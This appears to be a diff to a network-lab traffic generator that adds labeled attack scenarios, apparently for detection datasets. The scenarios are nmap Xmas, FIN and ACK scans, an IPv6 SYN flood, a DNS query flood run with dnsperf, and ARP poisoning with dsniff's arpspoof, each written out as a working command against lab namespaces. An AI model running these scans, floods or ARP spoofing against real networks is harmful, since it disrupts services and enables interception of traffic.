@@ -87,12 +87,16 @@ def port_scan/hping3-port-sweep attack port_scan 8
 def port_scan/connect-retries attack port_scan 30
 def port_scan/rescan-a-minute-later attack port_scan 70
 def port_scan/ip-protocol attack port_scan 10
+def port_scan/xmas-top1000 attack port_scan 10
+def port_scan/fin-ipv6-top200 attack port_scan 10
+def port_scan/ack-top1000 attack port_scan 10
 def syn_flood/open-port-fast attack syn_flood 5
 def syn_flood/open-port-rate-limited attack syn_flood 7
 def syn_flood/closed-port attack syn_flood 5
 def syn_flood/filtered-port attack syn_flood 5
 def syn_flood/spoofed-random attack syn_flood 5
 def syn_flood/random-ports-fast attack syn_flood 3
+def syn_flood/ipv6-open-port attack syn_flood 4
 def syn_flood/ack-flood attack syn_flood 5
 def brute_force/ssh-slow-t1 attack brute_force 120
 def brute_force/ftp-burst-12 attack brute_force 3
@@ -117,6 +121,7 @@ def udp_flood/fast attack udp_flood 3
 def udp_flood/rate-limited attack udp_flood 11
 def udp_flood/spoofed-random attack udp_flood 4
 def udp_flood/filtered-port attack udp_flood 4
+def udp_flood/dns-query-flood attack udp_flood 12
 def udp_flood/ipv6-python attack udp_flood 7
 def icmp_flood/fast attack icmp_flood 3
 def icmp_flood/rate-limited attack icmp_flood 7
@@ -140,6 +145,7 @@ def arp_spoofing/gateway-claim attack arp_spoofing 42
 def arp_spoofing/mitm-bidirectional attack arp_spoofing 42
 def arp_spoofing/slow-claims attack arp_spoofing 113
 def arp_spoofing/arping-gratuitous attack arp_spoofing 41
+def arp_spoofing/dsniff-arpspoof attack arp_spoofing 30
 def icmp_tunnel/ptunnel-ng-download attack icmp_tunnel 10
 def icmp_tunnel/ptunnel-ng-upload attack icmp_tunnel 10
 def icmp_tunnel/ptunnel-ng-polling attack icmp_tunnel 90
@@ -228,7 +234,7 @@ fi
 
 # ---------------------------------------------------------------- setup
 lab_install_missing "$INSTALL" vsftpd:vsftpd memcached:memcached ab:apache2-utils nft:nftables \
-	ethtool:ethtool nc:netcat-openbsd capinfos:tshark dhcpstarv:dhcpstarv yersinia:yersinia udhcpc:udhcpc ptunnel-ng:ptunnel-ng atk6-flood_dhcpc6:thc-ipv6
+	ethtool:ethtool nc:netcat-openbsd capinfos:tshark dhcpstarv:dhcpstarv yersinia:yersinia udhcpc:udhcpc ptunnel-ng:ptunnel-ng atk6-flood_dhcpc6:thc-ipv6 dnsperf:dnsperf arpspoof:dsniff
 for c in ip tcpdump timeout curl "$PY" nft; do have "$c" || die "$c is required and not installed"; done
 
 mkdir -p "$OUTDIR"
@@ -612,8 +618,24 @@ v_port_scan_filtered_only() {
 	lan_attack "$ATTACKER" "$VICTIM" "nmap SYN scan of the victim's firewalled TCP ports 8081-8999 and UDP 9999 only: every probe is dropped, nothing answers, nmap retries once"
 	run_in 180 "$NS_ATTACKER" "${SCAN[@]}" -sS -sU -T4 --max-retries 1 -p T:8081-8999,U:9999 "$VICTIM"
 }
+v_port_scan_xmas_top1000() {
+	lan_attack "$ATTACKER" "$VICTIM" "nmap Xmas scan (FIN, PSH and URG, no SYN) of the 1000 most common TCP ports: closed ports answer RST, open and filtered ones nothing"
+	run_in 180 "$NS_ATTACKER" "${SCAN[@]}" -sX -T4 --top-ports 1000 "$VICTIM"
+}
+v_port_scan_fin_ipv6_top200() {
+	lan_attack "$ATTACKER6" "$VICTIM6" "nmap FIN scan over IPv6 of the 200 most common TCP ports: closed ports answer RST, open and filtered ones nothing"
+	run_in 180 "$NS_ATTACKER" "${SCAN[@]}" -6 -sF -T4 --top-ports 200 "$VICTIM6"
+}
+v_port_scan_ack_top1000() {
+	lan_attack "$ATTACKER" "$VICTIM" "nmap ACK scan (firewall mapping) of the 1000 most common TCP ports: every unfiltered port answers RST, filtered ones nothing"
+	run_in 180 "$NS_ATTACKER" "${SCAN[@]}" -sA -T4 --top-ports 1000 "$VICTIM"
+}
 
 # ---------------------------------------------------------------- syn_flood
+v_syn_flood_ipv6_open_port() {
+	lan_attack "$ATTACKER6" "$VICTIM6" "2400 SYNs over IPv6 to the open web port at 600/s from changing source ports (a raw socket: hping3 has no IPv6); the victim answers each with a SYN-ACK, which the attacker's kernel resets"
+	run_in 40 "$NS_ATTACKER" "$PY" "$LABTOOLS/syn_flood.py" "$ATTACKER6" "$VICTIM6" 80 600 2400
+}
 v_syn_flood_open_port_fast() {
 	lan_attack "$ATTACKER" "$VICTIM" "4000 SYNs to the open port 80 at up to 10000/s: the victim answers each with a SYN-ACK, the attacker's kernel resets it"
 	hping 60 -S -p 80 -c 4000 -i u100 "$VICTIM"
@@ -761,6 +783,11 @@ v_udp_flood_fast() {
 	lan_attack "$ATTACKER" "$VICTIM" "10000 UDP datagrams of 200 bytes to the closed port 7777 as fast as hping3 sends (-i u50); the victim answers a few with rate-limited ICMP port unreachable"
 	hping 60 --udp -p 7777 -d 200 -c 10000 -i u50 "$VICTIM"
 }
+v_udp_flood_dns_query_flood() {
+	lan_attack "$ATTACKER" "$ROUTER" "a DNS query flood (water torture) against the LAN's resolver: dnsperf sends 600 queries a second for 12 s for random names under lab.test (12 random letters each), each answered NXDOMAIN"
+	awk 'BEGIN { srand(7); for (i = 0; i < 50000; i++) { n = ""; for (j = 0; j < 12; j++) n = n sprintf("%c", 97 + int(rand() * 26)); print n ".lab.test A" } }' >"$RUN/water.txt"
+	run_in 40 "$NS_ATTACKER" dnsperf -s "$ROUTER" -d "$RUN/water.txt" -Q 600 -l 12 -c 4 -q 500
+}
 v_udp_flood_rate_limited() {
 	lan_attack "$ATTACKER" "$VICTIM" "10000 UDP datagrams of 200 bytes to port 7777 at 1000/s for 10 s"
 	hping 60 --udp -p 7777 -d 200 -c 10000 -i u1000 "$VICTIM"
@@ -894,6 +921,12 @@ v_arp_spoofing_slow_claims() {
 v_arp_spoofing_arping_gratuitous() {
 	lan_attack "$ATTACKER" "$ROUTER" "arping -U -P: an unsolicited ARP reply every second for 40 s, broadcast, saying the router's address is at the attacker's MAC"
 	run_in 70 "$NS_ATTACKER" arping -q -i eth0 -U -P -S "$ROUTER" -c 40 -W 1 "$ROUTER"
+	neigh_flush
+}
+v_arp_spoofing_dsniff_arpspoof() {
+	lan_attack "$ATTACKER" "$ROUTER" "dsniff's arpspoof poisoning one host: every 2 s for 30 s a unicast ARP reply tells the victim that the router's address is at the attacker's MAC; on exit it re-announces the true address"
+	run_in 30 "$NS_ATTACKER" /usr/sbin/arpspoof -i eth0 -t "$VICTIM" "$ROUTER"
+	sleep 6 # arpspoof re-ARPs the true address for a few seconds after the signal
 	neigh_flush
 }
 
